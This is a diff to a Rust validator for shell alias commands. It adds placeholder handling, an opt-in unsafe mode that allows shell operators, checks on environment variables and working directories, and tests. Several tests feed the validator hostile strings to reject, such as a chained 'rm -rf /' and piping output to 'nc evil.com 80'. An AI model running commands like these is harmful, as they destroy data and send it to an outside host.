@@ -1,4 +1,6 @@
+use super::alias_schema::{parse_command_template, CommandPart};
 use anyhow::{anyhow, Result};
+use std::path::{Path, PathBuf};
 
 /// List of dangerous shell metacharacters that should be rejected
 const DANGEROUS_SHELL_CHARS: &[char] = &[
@@ -24,6 +26,9 @@ const DANGEROUS_SHELL_CHARS: &[char] = &[
 /// - Subshells ((), {})
 /// - Newlines and other control characters
 ///
+/// Argument placeholders (`{1}`, `{2}`, `{@}`) are allowed; only the literal
+/// text around them is checked.
+///
 /// # Arguments
 /// * `command` - The command string to validate
 ///
@@ -41,20 +46,18 @@ const DANGEROUS_SHELL_CHARS: &[char] = &[
 /// assert!(validate_alias_command("ls; rm -rf /").is_err());
 /// ```
 pub fn validate_alias_command(command: &str) -> Result<()> {
-    // 1. Check for empty command
-    if command.trim().is_empty() {
-        return Err(anyhow!("Command cannot be empty"));
-    }
-
-    // 2. Check length
-    if command.len() > 1000 {
-        return Err(anyhow!("Command too long (max 1000 chars)"));
-    }
+    // 1-3. Empty, too long, null bytes
+    validate_command_basics(command)?;
 
-    // 3. Check for null bytes
-    if command.contains('\0') {
-        return Err(anyhow!("Command contains null byte"));
-    }
+    // Placeholders are substituted by the shim; check only the literal parts
+    let literal: String = parse_command_template(command)
+        .into_iter()
+        .map(|part| match part {
+            CommandPart::Literal(text) => text,
+            CommandPart::Arg(_) | CommandPart::AllArgs => " ",
+        })
+        .collect();
+    let command = literal.as_str();
 
     // 4. Check for dangerous characters
     for &ch in DANGEROUS_SHELL_CHARS {
@@ -95,6 +98,110 @@ pub fn validate_alias_command(command: &str) -> Result<()> {
     Ok(())
 }
 
+/// Validates the command of an alias created with `--unsafe`
+///
+/// Shell operators (pipes, redirections, substitutions...) are let through
+/// as the user asked for them; only the basic checks of
+/// [`validate_alias_command`] still apply. Callers must make sure the
+/// `alias.allow_shell_operators` setting is enabled.
+pub fn validate_unsafe_alias_command(command: &str) -> Result<()> {
+    validate_command_basics(command)
+}
+
+/// Checks shared by safe and unsafe alias commands
+fn validate_command_basics(command: &str) -> Result<()> {
+    if command.trim().is_empty() {
+        return Err(anyhow!("Command cannot be empty"));
+    }
+
+    if command.len() > 1000 {
+        return Err(anyhow!("Command too long (max 1000 chars)"));
+    }
+
+    if command.contains('\0') {
+        return Err(anyhow!("Command contains null byte"));
+    }
+
+    Ok(())
+}
+
+/// Parses a `KEY=VALUE` environment assignment for an alias
+///
+/// Keys must be valid shell identifiers (`[A-Za-z_][A-Za-z0-9_]*`) so they can
+/// be exported safely by the generated scripts. Values may be empty but must
+/// not contain null bytes or newlines.
+pub fn parse_env_assignment(assignment: &str) -> Result<(String, String)> {
+    let (key, value) = assignment.split_once('=').ok_or_else(|| {
+        anyhow!(
+            "Invalid environment variable '{}': expected KEY=VALUE",
+            assignment
+        )
+    })?;
+
+    let mut chars = key.chars();
+    let valid_key = chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_');
+    if !valid_key {
+        return Err(anyhow!(
+            "Invalid environment variable name '{}' - use letters, digits and underscores",
+            key
+        ));
+    }
+
+    if value.contains(['\0', '\n', '\r']) {
+        return Err(anyhow!(
+            "Environment variable '{}' contains a null byte or newline",
+            key
+        ));
+    }
+
+    Ok((key.to_string(), value.to_string()))
+}
+
+/// Validates the working directory of an alias and returns its absolute path
+pub fn validate_alias_cwd(cwd: &str) -> Result<PathBuf> {
+    let path = Path::new(cwd);
+    if !path.is_dir() {
+        return Err(anyhow!(
+            "Working directory '{}' does not exist or is not a directory",
+            cwd
+        ));
+    }
+
+    path.canonicalize()
+        .map_err(|e| anyhow!("Failed to resolve working directory '{}': {}", cwd, e))
+}
+
+/// Validates and normalizes an alias category or tag
+///
+/// Labels are lowercased and may contain letters, digits, `-` and `_`.
+pub fn normalize_alias_label(label: &str) -> Result<String> {
+    let normalized = label.trim().to_lowercase();
+
+    if normalized.is_empty() {
+        return Err(anyhow!("Category and tag names cannot be empty"));
+    }
+    if normalized.len() > 50 {
+        return Err(anyhow!(
+            "Category or tag '{}' is too long (max 50 chars)",
+            label
+        ));
+    }
+    if !normalized
+        .chars()
+        .all(|c| c.is_alphanumeric() || c == '-' || c == '_')
+    {
+        return Err(anyhow!(
+            "Invalid category or tag '{}' - use letters, digits, '-' and '_'",
+            label
+        ));
+    }
+
+    Ok(normalized)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -208,6 +315,18 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_placeholders_allowed_but_literal_parts_checked() {
+        assert!(validate_alias_command("git checkout {1}").is_ok());
+        assert!(validate_alias_command("cp {2} {1}").is_ok());
+        assert!(validate_alias_command("echo {@}").is_ok());
+
+        assert!(validate_alias_command("git checkout {1}; rm -rf /").is_err());
+        assert!(validate_alias_command("echo {1} | nc evil.com 80").is_err());
+        assert!(validate_alias_command("echo {a,b}").is_err());
+        assert!(validate_alias_command("echo {0}").is_err());
+    }
+
     #[test]
     fn test_reject_empty_command() {
         assert!(validate_alias_command("").is_err());
@@ -219,4 +338,62 @@ mod tests {
         let long_cmd = "a".repeat(1001);
         assert!(validate_alias_command(&long_cmd).is_err());
     }
+
+    #[test]
+    fn test_unsafe_commands_allow_shell_operators() {
+        for cmd in [
+            "git log --oneline | head -20",
+            "cargo build 2>&1 | tee build.log",
+            "echo $(date) > stamp.txt",
+        ] {
+            assert!(validate_alias_command(cmd).is_err());
+            assert!(validate_unsafe_alias_command(cmd).is_ok(), "{}", cmd);
+        }
+
+        assert!(validate_unsafe_alias_command("  ").is_err());
+        assert!(validate_unsafe_alias_command("ls\0 -la").is_err());
+        assert!(validate_unsafe_alias_command(&"a".repeat(1001)).is_err());
+    }
+
+    #[test]
+    fn test_parse_env_assignment() {
+        assert_eq!(
+            parse_env_assignment("RUST_LOG=debug").unwrap(),
+            ("RUST_LOG".to_string(), "debug".to_string())
+        );
+        assert_eq!(
+            parse_env_assignment("EMPTY=").unwrap(),
+            ("EMPTY".to_string(), String::new())
+        );
+        assert_eq!(parse_env_assignment("URL=a=b").unwrap().1, "a=b");
+
+        assert!(parse_env_assignment("NOEQUALS").is_err());
+        assert!(parse_env_assignment("=value").is_err());
+        assert!(parse_env_assignment("1ABC=x").is_err());
+        assert!(parse_env_assignment("BAD-KEY=x").is_err());
+        assert!(parse_env_assignment("KEY=line\nbreak").is_err());
+    }
+
+    #[test]
+    fn test_validate_alias_cwd() {
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        let resolved = validate_alias_cwd(temp_dir.path().to_str().unwrap()).unwrap();
+        assert!(resolved.is_absolute());
+
+        let missing = temp_dir.path().join("missing");
+        assert!(validate_alias_cwd(missing.to_str().unwrap()).is_err());
+
+        let file = temp_dir.path().join("file.txt");
+        std::fs::write(&file, "").unwrap();
+        assert!(validate_alias_cwd(file.to_str().unwrap()).is_err());
+    }
+
+    #[test]
+    fn test_normalize_alias_label() {
+        assert_eq!(normalize_alias_label(" Git ").unwrap(), "git");
+        assert_eq!(normalize_alias_label("dev-tools").unwrap(), "dev-tools");
+        assert!(normalize_alias_label("").is_err());
+        assert!(normalize_alias_label("two words").is_err());
+        assert!(normalize_alias_label("a/b").is_err());
+    }
 }